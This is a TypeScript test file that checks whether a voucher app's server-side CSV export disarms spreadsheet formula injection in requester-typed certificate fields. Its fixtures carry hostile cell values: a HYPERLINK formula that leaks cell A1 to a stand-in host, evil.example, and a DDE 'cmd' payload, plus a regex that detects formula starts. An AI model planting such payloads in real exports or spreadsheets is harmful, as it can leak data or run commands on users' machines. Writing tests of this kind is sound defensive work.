import { generateUsedCodes } from "@voucher-desk/digicert-sim";
import Papa from "papaparse";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type Harness, startHarness } from "../test-support/harness.js";

/**
 * Organization and common name are typed by certificate requesters. A cell that a spreadsheet
 * would run as a formula must come out of the server's CSV export neutralized with a leading
 * `'`, while numbers (negative ones included) stay numbers. The browser's export is the same
 * writer (@voucher-desk/vouchers writeCsv); playwright/security.spec.ts checks it end to end.
 */

const TRIGGERS = [
  ["=", "equals"],
  ["+", "plus"],
  ["-", "minus"],
  ["@", "at"],
  ["\t", "TAB"],
  ["\r", "CR"],
] as const;

const FIRST_ID = 900_001;

function hostileRows() {
  const base = generateUsedCodes({ count: TRIGGERS.length, seed: "csv-injection" });
  return base.map((row, index) => {
    const [trigger] = TRIGGERS[index] ?? ["="];
    return {
      ...row,
      id: FIRST_ID + index,
      cert_organization: `${trigger}HYPERLINK("http://evil.example/?leak="&A1,"Click")`,
      cert_common_name: `${trigger}cmd|' /C calc'!A0`,
      // Negative numbers start with "-" too, and must stay numbers.
      no_of_fqdns: -(index + 1),
      server_licenses: String(-(index + 2)),
    };
  });
}

const FORMULA_START = /^[=+\-@\t\r]/;

describe("CSV injection through the server's export", () => {
  let harness: Harness;
  let records: Record<string, string>[];
  /** The same rows as the JSON list has them (normalized), by id. */
  let listed: Map<number, { cert_organization: string; cert_common_name: string }>;
  beforeAll(async () => {
    harness = await startHarness({ sim: { codes: hostileRows() } });
    const response = await harness.request("/api/used-codes.csv?cols=id,org,cn,fqdns,licenses&sort=id&bom=0");
    expect(response.status).toBe(200);
    const parsed = Papa.parse<Record<string, string>>(await response.text(), {
      header: true,
      skipEmptyLines: true,
    });
    expect(parsed.errors).toEqual([]);
    records = parsed.data;
    const list = (await (await harness.request("/api/used-codes")).json()) as {
      codes: { id: number; cert_organization: string; cert_common_name: string }[];
    };
    listed = new Map(list.codes.map((code) => [code.id, code]));
  });
  afterAll(async () => harness.close());

  it("exports every hostile row", () => {
    expect(records.map((record) => Number(record.id))).toEqual(TRIGGERS.map((_, index) => FIRST_ID + index));
  });

  it.each(TRIGGERS.map(([trigger, name], index) => [name, trigger, index] as const))(
    "never lets a text cell start a formula with %s, and loses none of its text",
    (_name, trigger, index) => {
      const record = records[index];
      const source = listed.get(FIRST_ID + index);
      for (const column of ["cert_organization", "cert_common_name"] as const) {
        const cell = record?.[column] ?? "";
        const value = source?.[column] ?? "";
        expect(cell).not.toMatch(FORMULA_START);
        // Neutralized = one leading apostrophe, the rest verbatim; text that starts no formula is left alone.
        expect(cell).toBe(FORMULA_START.test(value) ? `'${value}` : value);
        expect(
          cell.endsWith(
            column === "cert_organization"
              ? 'HYPERLINK("http://evil.example/?leak="&A1,"Click")'
              : "cmd|' /C calc'!A0",
          ),
        ).toBe(true);
      }
      // The list keeps = + - @ as sent; TAB and CR are whitespace the normalizer trims, which also disarms them.
      if (trigger !== "\t" && trigger !== "\r")
        expect(record?.cert_organization?.startsWith(`'${trigger}`)).toBe(true);
    },
  );

  it("leaves negative numbers in numeric columns unprefixed", () => {
    expect(records.map((record) => record.no_of_fqdns)).toEqual(
      TRIGGERS.map((_, index) => String(-(index + 1))),
    );
    expect(records.map((record) => record.server_licenses)).toEqual(
      TRIGGERS.map((_, index) => String(-(index + 2))),
    );
  });
});
